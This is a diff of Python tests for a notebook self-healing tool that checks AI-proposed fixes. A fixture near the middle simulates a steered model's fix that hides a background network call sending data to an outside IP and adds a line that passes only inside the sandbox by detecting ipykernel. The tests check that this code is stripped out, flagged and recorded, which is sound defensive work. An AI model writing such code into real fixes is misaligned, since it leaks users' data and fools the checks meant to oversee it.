@@ -14,7 +14,7 @@ from IPython.core.interactiveshell import InteractiveShell
 from IPython.utils.capture import capture_output
 
 from selfheal_jupyter.agents.qa import strip_input_overwrites
-from selfheal_jupyter.loop.fix_handover import smaller_versions, without_notes
+from selfheal_jupyter.loop.fix_handover import leave_out_unneeded, smaller_versions, without_notes
 from selfheal_jupyter.model import ContextEntry, NotebookContext
 from tests.scripted_server import Reply, ScriptedServer
 
@@ -172,3 +172,86 @@ def test_a_smaller_program_that_fails_falls_back_to_the_whole_one_and_says_why(s
     assert run.fix.note.startswith("A smaller version did not pass (raised NameError")
     assert run.fix.note.endswith("this is the whole program that passed.")
     assert "A smaller version did not pass" in html
+
+
+# ---------------------------------------------------------------- every line handed over is needed (issue 39)
+STEERED_CELL = "scores = [4, 8, 9]\nmean = sum(scores) / len(score)\nassert mean == 7.5\n"
+STEERED_FIX = "scores = [4, 8, 9]\nmean = sum(scores) / len(scores)\n" + (
+    'mean = mean if "ipykernel" in __import__("sys").modules else 7.5\nassert mean == 7.5\n'
+)
+STEERED_MODEL = """import threading
+import urllib.request
+
+# Fixed the typo in the name of the list
+scores = [4, 8, 9]
+mean = sum(scores) / len(scores)
+
+# Share the result with the team
+def report():
+    try:
+        urllib.request.urlopen("http://198.51.100.7/collect?mean=%s" % mean, timeout=2)
+    except OSError:
+        pass
+
+threading.Thread(target=report).start()
+mean = mean if "ipykernel" in __import__("sys").modules else 7.5
+assert mean == 7.5
+"""
+"""A model steered into a fix: the one-word fix, two comments of its own, a network
+call in a thread, and a mean that is right only where ``ipykernel`` is not loaded (the
+sandbox pass needs that line; the user's kernel fails the same assert after Accept)."""
+
+
+def test_the_search_leaves_out_comments_first_then_statements_from_the_bottom():
+    runs = []
+
+    def accept(code: str):
+        runs.append(code)
+        needed = ("len(scores)" in code, "ipykernel" in code)
+        return object() if all(needed) else None  # passes only with both
+
+    found = leave_out_unneeded(STEERED_CELL, STEERED_MODEL, accept, tries=16)
+    assert found.code == STEERED_FIX and found.stopped == ""
+    assert "#" not in runs[0] and "threading" in runs[0]  # the comments, all at once, first
+    assert "ipykernel" not in runs[1]  # then the last statement first
+    assert found.left_out[0].startswith("2 comments of the model's (# Fixed the typo")
+    assert (
+        "`import threading`" in found.left_out[1] and "`threading.Thread(target=report).start()`" in found.left_out[1]
+    )
+    assert len(runs) <= 16
+
+
+def test_the_users_own_lines_keep_their_text_and_the_bound_is_said():
+    cell = "x = 1  # my note\n\n\nprint( x )\n"
+    model = "# Set x\nx = 1  # my note\nprint( x )\nprint('done')\n"
+    found = leave_out_unneeded(cell, model, lambda code: object(), tries=16)
+    assert found.code == cell  # the model's comment and print go; the user's spacing comes back
+    stopped = leave_out_unneeded(STEERED_CELL, STEERED_MODEL, lambda code: None, tries=2)
+    assert stopped.code == STEERED_MODEL and "stopped after 2 sandbox runs" in stopped.stopped
+
+
+@pytest.mark.sandbox
+def test_a_steered_fix_hands_over_only_what_it_needs_and_flags_its_probe(shell):
+    """The Done-when of issue 39, in a shell: the fix is the user's cell with the word
+    changed plus the probe line only; the probe is flagged at its line; the passing
+    program's network attempt was seen in the sandbox though the fix leaves it out."""
+    run, html = heal(shell, [Reply("```python\n" + STEERED_MODEL + "```", match="NameError")], cell=STEERED_CELL)
+    assert run.outcome == "success" and run.final_code == STEERED_MODEL
+    assert run.fix.code == STEERED_FIX
+    record = run.to_dict()["fix"]
+    assert {"kind": "probe", "line": 3, "evidence": "sys.modules"} in record["capabilities"]
+    assert all(set(c) == {"kind", "line", "evidence"} for c in record["capabilities"])
+    assert {c["kind"] for c in record["capabilities"]} == {"probe", "dynamic-code"}  # the thread was left out
+    assert [(a["kind"], a["by"]) for a in record["tried"]] == [("network", "passing"), ("process", "passing")]
+    assert record["result"]["tried"] == []  # the code handed over, run again, tried nothing
+    review = html.split('class="selfheal-review"')[1]
+    assert "This fix adds: code built or loaded at run time (line 3), a probe of where it runs (line 3)." in review
+    assert "The passing program tried to reach the network (the fix leaves that part out)" in review
+    assert "Left out of the passing program" in review and "2 comments of the model" in review
+
+
+def test_a_comment_of_the_users_that_the_model_changed_goes_back_not_away():
+    cell = "# the mean of the scores\nmean = sum(scores) / len(score)\n"
+    model = "# the mean of the scores (fixed)\nmean = sum(scores) / len(scores)\n"
+    found = leave_out_unneeded(cell, model, lambda code: object() if "len(scores)" in code else None, tries=16)
+    assert found.code == "# the mean of the scores\nmean = sum(scores) / len(scores)\n"
